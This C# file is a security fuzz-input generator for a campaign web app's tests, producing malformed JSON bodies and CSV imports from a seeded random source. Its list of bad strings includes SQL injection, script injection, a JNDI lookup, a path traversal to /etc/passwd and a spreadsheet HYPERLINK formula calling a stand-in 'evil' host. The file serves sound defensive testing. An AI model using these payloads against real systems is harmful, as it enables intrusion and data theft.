using System.Text;
using System.Text.Json.Nodes;

namespace CampaignEngine.Web.Tests.Security;

/// <summary>Generated bad input, deterministic for a seed: the same run fails the same way.</summary>
public sealed class FuzzInputs(int seed)
{
    private readonly Random _random = new(seed);

    private static readonly string[] Nasty =
    [
        "", " ", "\t\n", "null", "NaN", "Infinity", "-1", "0", "-0", "1e309", "99999999999999999999999999999", "0.0000000000000000000001",
        "' OR 1=1 --", "\"; DROP TABLE pledge; --", "<script>alert(1)</script>", "{{ 7 * 7 }}", "${jndi:ldap://x/a}", "../../etc/passwd",
        "=HYPERLINK(\"http://evil\")", "\u0000", "\uFEFF", "\u202Eevil", "ңөүҢӨҮ", "🙂🙂", "%00", "%s%s%s", "{0}", "\\", "\"", ",", ";",
        "KG-Y", "KG-ZZ", "issyk-kul", "no-such-module", "money", "time", "in_kind", "goods", "USD", "XXX", "usd", "ky", "xx",
        "gratitude", "honorary", "monthly", "yearly", "2026-13-45", "2026-02-30T25:61:00Z", "0001-01-01", "9999-12-31T23:59:59Z",
        "+996", "+99655512345678901234", "a@b", "@@", "true", "false", "[]", "{}",
    ];

    public int Next(int max) => _random.Next(max);

    public T Pick<T>(IReadOnlyList<T> items) => items[_random.Next(items.Count)];

    public string Text()
    {
        switch (_random.Next(6))
        {
            case 0: return new string('x', _random.Next(1_000, 70_000));
            case 1:
                var chars = new char[_random.Next(1, 40)];
                for (var i = 0; i < chars.Length; i++) chars[i] = (char)_random.Next(1, 0xD7FF);
                return new string(chars);
            default: return Pick(Nasty);
        }
    }

    public JsonNode? Value() => _random.Next(10) switch
    {
        0 => null,
        1 => JsonValue.Create(_random.Next(2) == 0),
        2 => JsonValue.Create(_random.NextInt64(long.MinValue, long.MaxValue)),
        3 => JsonValue.Create(_random.NextDouble() * Math.Pow(10, _random.Next(-30, 300)) * (_random.Next(2) == 0 ? -1 : 1)),
        4 => new JsonArray(Value(), JsonValue.Create(Text())),
        5 => new JsonObject { ["x"] = Text() },
        6 => JsonValue.Create(-_random.Next(1, 1_000_000)),
        _ => JsonValue.Create(Text()),
    };

    /// <summary>A valid body made bad: fields replaced by garbage, removed, or the JSON itself broken.</summary>
    public (string Text, string ContentType) Corrupt(JsonObject valid)
    {
        var body = (JsonObject)valid.DeepClone();
        var keys = body.Select(p => p.Key).ToList();
        switch (_random.Next(10))
        {
            case 0:
                var json = body.ToJsonString();
                return (json[.._random.Next(json.Length)], "application/json");                          // cut short
            case 1: return (Text(), "application/json");                                                   // not JSON
            case 2: return (new string('[', 5_000) + new string(']', 5_000), "application/json");          // too deep
            case 3: return (body.ToJsonString(), Pick(["text/plain", "application/xml", "multipart/form-data"]));
            case 4:
                if (keys.Count > 0) body.Remove(Pick(keys));                                               // a field missing
                goto default;
            default:
                for (var i = 0; i <= _random.Next(3) && keys.Count > 0; i++) body[Pick(keys)] = Value();  // fields of the wrong kind
                if (_random.Next(4) == 0) body[Text()] = Value();                                          // a field nobody asked for
                return (body.ToJsonString(), "application/json");
        }
    }

    /// <summary>A CSV of the directory import: a good header with bad rows, or a broken file.</summary>
    public string Csv(string header, Func<int, string> goodRow)
    {
        switch (_random.Next(8))
        {
            case 0: return Text();
            case 1: return header.Replace(',', ';') + "\n" + goodRow(0).Replace(',', ';');
            case 2: return string.Join(',', header.Split(',').OrderBy(_ => _random.Next()).Skip(_random.Next(1, 5))) + "\n" + goodRow(0);
            default:
                var csv = new StringBuilder(header).Append('\n');
                for (var row = 0; row < _random.Next(1, 6); row++)
                {
                    var cells = goodRow(row).Split(',');
                    for (var i = 0; i <= _random.Next(3); i++)
                        cells[_random.Next(cells.Length)] = CsvCell(Text());
                    if (_random.Next(6) == 0) cells = cells[.._random.Next(cells.Length)];
                    csv.Append(string.Join(',', cells)).Append('\n');
                }
                return csv.ToString();
        }
    }

    private string CsvCell(string text) =>
        _random.Next(3) == 0 ? "\"" + text.Replace("\"", "\"\"") + "\"" : text.Replace("\n", " ");
}
